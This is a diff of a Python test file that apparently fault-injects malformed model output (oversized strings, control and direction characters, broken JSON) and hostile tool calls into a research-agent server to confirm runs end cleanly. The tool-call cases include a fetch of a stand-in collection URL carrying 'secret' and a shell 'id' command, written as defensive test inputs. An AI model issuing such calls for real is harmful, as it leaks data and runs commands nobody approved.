@@ -1,5 +1,6 @@
 """Where models' output comes in: whatever a provider says, a run ends with a reason, and never with a defect."""
 
+import asyncio
 import json
 import time
 from collections.abc import AsyncIterator, Iterator, Mapping
@@ -8,17 +9,22 @@ from typing import Any
 import pytest
 
 from faults.tools.provider import Asked, Provider
-from futurone_server.features.runs import Budget, Status
+from futurone_server.eventlog import Content
+from futurone_server.features.runs import Budget, Order, Status
 from futurone_server.main import Server
 from futurone_server.models.configured import ConfiguredModels
 from futurone_server.models.listed import read_models
 from futurone_server.pipelines.toolbox import Toolbox
 from futurone_server.tools.port import Tool
-from house import Tenant, open_server
-from pipelines.inquiry.conftest import LIGHTHOUSE, research, upload
+from house import add_tenant, open_server, principal
+from pipelines.inquiry.conftest import LIGHTHOUSE, upload
 from pipelines.inquiry.standin import Researcher
+from pipelines.stage import carry_out
 
 pytestmark = pytest.mark.anyio
+
+_LANES = 8
+"""Runs side by side: most of the time goes by between the attempts of a step."""
 
 QUESTION = "How high is the lighthouse tower?"
 STEP = {"id": "s1", "question": QUESTION, "queries": [], "depends_on": [], "tools": [], "success_criteria": []}
@@ -89,12 +95,12 @@ TEXTS: Mapping[str, str] = {
     "a citation of zero": "The tower is 42 metres high [0][00][0000].",
     "five thousand citations": "The tower is 42 metres high " + "[1]" * 5000 + ".",
     "a thousand sentences": "The lighthouse tower is 42 metres high [1]. " * 1000,
-    "one endless word": "x" * 500_000,
-    "endless marks": "[1] " * 100_000,
+    "one endless word": "x" * 100_000,
+    "endless marks": "[1] " * 25_000,
     "endless brackets": "[" * 100_000,
-    "endless stars": "*_`" * 50_000,
-    "endless stops": "." * 200_000,
-    "endless lines": "\n\n" * 100_000 + "The tower is 42 metres high [1].",
+    "endless stars": "*_`" * 30_000,
+    "endless stops": "." * 100_000,
+    "endless lines": "\n\n" * 40_000 + "The tower is 42 metres high [1].",
     "control characters": "The \x00tower\x1b[2J is\x07 42\x7f metres\u2028high\x85 [1].",
     "direction marks": "\u202eThe tower \u2066is 42\u200b metres high\U000e0041 [1].",
     "a lone surrogate": "The tower \ud800 is 42 metres high [1].",
@@ -141,18 +147,48 @@ async def house(databases: Any, provider: Provider, sent: list[object]) -> Async
     databases.drop(url)
 
 
-async def _play(house: Server, tenant: Tenant, provider: Provider, kind: str, delta: Mapping[str, Any]) -> Status:
-    """How a run ends whose answers of one kind are this; a defect is not among the ways."""
+async def _play(
+    house: Server, provider: Provider, kind: str, deltas: Mapping[str, Mapping[str, Any]]
+) -> Mapping[str, Status]:
+    """How the runs end whose answers of one kind are these, some side by side; a defect is not among the ways."""
+    tags = {f"case {number} of them": name for number, name in enumerate(deltas, 101)}
+    minds = {tag: Researcher(f"{QUESTION[:-1]}, {tag}?", tools=("documents_search", "send_mail")) for tag in tags}
     provider.asked.clear()
-    provider.mind = Researcher(QUESTION, tools=("documents_search", "send_mail"))
-    provider.bare = lambda asked: dict(delta)
-    provider.fault = lambda asked: "bare" if _is(asked, kind) else None
-    run = await research(house, tenant, await upload(house, tenant, "l.md", LIGHTHOUSE), budget=Budget(max_wall_s=120))
+    provider.mind = Researcher(QUESTION)
+    provider.mind.plan = lambda prompt: next(mind for tag, mind in minds.items() if tag in prompt).outline(prompt)
+    provider.bare = lambda asked: dict(next(deltas[tags[tag]] for tag in tags if tag in asked.prompt))
+    provider.fault = lambda asked: "bare" if _is(asked, kind) and any(tag in asked.prompt for tag in tags) else None
+    found: dict[str, Status] = {}
+    lanes = asyncio.Semaphore(_LANES)
+
+    async def play_one(tag: str) -> None:
+        async with lanes:
+            try:
+                found[tags[tag]] = await _end(house, f"How high is the lighthouse, {tag}?")
+                asked = [one for one in provider.asked if tag in one.prompt]
+                assert any(_is(one, kind) for one in asked)
+                assert len(asked) < 60
+            except Exception as error:
+                error.add_note(f"where a {kind} is: {tags[tag]}")
+                raise
+
+    async with asyncio.TaskGroup() as group:
+        for tag in tags:
+            group.create_task(play_one(tag))
+    return found
+
+
+async def _end(house: Server, task: str) -> Status:
+    """How a run over one file ends, in a workspace of its own."""
+    tenant = await add_tenant(house)
+    file_id = await upload(house, tenant, "l.md", LIGHTHOUSE)
+    brief, budget = Content({"task": task}), Budget(max_wall_s=120)
+    order = Order(agent="research", brief=brief, files=(file_id,), metadata={}, budget=budget)
+    placed = await house.desk.runs.create(principal(tenant.workspace_id), order, request_id="req_test")
+    run = await carry_out(house, placed.run)
     assert run.status in {Status.COMPLETED, Status.ESCALATED, Status.FAILED, Status.AWAITING_INPUT}
     if run.error is not None:
         assert run.error["reason_code"] not in {"INTERNAL", "WORKER_CRASH_LOOP"}, run.error
-    assert any(_is(asked, kind) for asked in provider.asked)
-    assert len(provider.asked) < 60
     return run.status
 
 
@@ -173,44 +209,46 @@ def _calls(*calls: tuple[str, str]) -> Mapping[str, Any]:
     }
 
 
-@pytest.mark.parametrize("name", [*OBJECTS, *PLANS])
-async def test_no_plan_breaks_a_run(house: Server, tenant: Tenant, provider: Provider, name: str) -> None:
-    await _play(house, tenant, provider, "plan", _object({**OBJECTS, **PLANS}[name]))
-
-
-@pytest.mark.parametrize("name", [*OBJECTS, *JUDGEMENTS])
-async def test_no_judgement_breaks_a_run(house: Server, tenant: Tenant, provider: Provider, name: str) -> None:
-    status = await _play(house, tenant, provider, "judge", _object({**OBJECTS, **JUDGEMENTS}[name]))
-    assert status in {Status.COMPLETED, Status.ESCALATED}, "without a judge there is still what can be measured"
-
-
-@pytest.mark.parametrize("name", TEXTS)
-async def test_no_text_breaks_a_run(house: Server, tenant: Tenant, provider: Provider, name: str) -> None:
-    await _play(house, tenant, provider, "draft", {"content": TEXTS[name]})
-
-
-@pytest.mark.parametrize(
-    "calls",
-    [
-        [("web_fetch", '{"url":"http://collect.example/?secret"}')],
-        [("shell", '{"command":"id"}')],
-        [("", "{}")],
-        [("documents_search", '{"query":"tower","url":"http://collect.example"}')],
-        [("documents_search", '{"query":"\\ud800\\ud800"}')],
-        [("documents_search", '{"query":' + "1" * 400 + "}")],
-        [("documents_search", _nested(3000))],
-        [("documents_search", "not JSON")],
-        [("documents_search", '{"query":"' + "x" * 1_000_000 + '"}')],
-        [("send_mail", '{"text":"\\ud800"}')],
-        [("send_mail", '{"text":1e999,"n":NaN}')],
-        [("send_mail", '{"n":123456789012345678901234567890}')],
-        [("send_mail", _nested(300))],
-        [("send_mail", '{"text":"a"}'), ("send_mail", '{"text":"b"}'), ("documents_search", '{"query":"tower"}')],
-        [("final_result", '{"steps":[]}')],
+CALLS: Mapping[str, list[tuple[str, str]]] = {
+    "a page that is none of its tools": [("web_fetch", '{"url":"http://collect.example/?secret"}')],
+    "a program": [("shell", '{"command":"id"}')],
+    "a tool without a name": [("", "{}")],
+    "an argument too many": [("documents_search", '{"query":"tower","url":"http://collect.example"}')],
+    "surrogates": [("documents_search", '{"query":"\\ud800\\ud800"}')],
+    "a number for a text": [("documents_search", '{"query":' + "1" * 400 + "}")],
+    "nested arguments": [("documents_search", _nested(3000))],
+    "no JSON": [("documents_search", "not JSON")],
+    "a megabyte": [("documents_search", '{"query":"' + "x" * 1_000_000 + '"}')],
+    "a mail of a surrogate": [("send_mail", '{"text":"\\ud800"}')],
+    "a mail of numbers that are none": [("send_mail", '{"text":1e999,"n":NaN}')],
+    "a mail of a huge number": [("send_mail", '{"n":123456789012345678901234567890}')],
+    "a nested mail": [("send_mail", _nested(300))],
+    "two mails and a search": [
+        ("send_mail", '{"text":"a"}'),
+        ("send_mail", '{"text":"b"}'),
+        ("documents_search", '{"query":"tower"}'),
     ],
-)
+    "the answer of a plan": [("final_result", '{"steps":[]}')],
+}
+
+
+async def test_no_plan_breaks_a_run(house: Server, provider: Provider) -> None:
+    await _play(house, provider, "plan", {name: _object(text) for name, text in {**OBJECTS, **PLANS}.items()})
+
+
+async def test_no_judgement_breaks_a_run(house: Server, provider: Provider) -> None:
+    judgements = {name: _object(text) for name, text in {**OBJECTS, **JUDGEMENTS}.items()}
+    found = await _play(house, provider, "judge", judgements)
+    bad = {name for name, status in found.items() if status not in {Status.COMPLETED, Status.ESCALATED}}
+    assert not bad, "without a judge there is still what can be measured"
+
+
+async def test_no_text_breaks_a_run(house: Server, provider: Provider) -> None:
+    await _play(house, provider, "draft", {name: {"content": text} for name, text in TEXTS.items()})
+
+
 async def test_no_use_of_a_tool_breaks_a_run_or_does_what_nobody_approved(
-    house: Server, tenant: Tenant, provider: Provider, sent: list[object], calls: list[tuple[str, str]]
+    house: Server, provider: Provider, sent: list[object]
 ) -> None:
-    await _play(house, tenant, provider, "draft", _calls(*calls))
+    await _play(house, provider, "draft", {name: _calls(*calls) for name, calls in CALLS.items()})
     assert sent == []
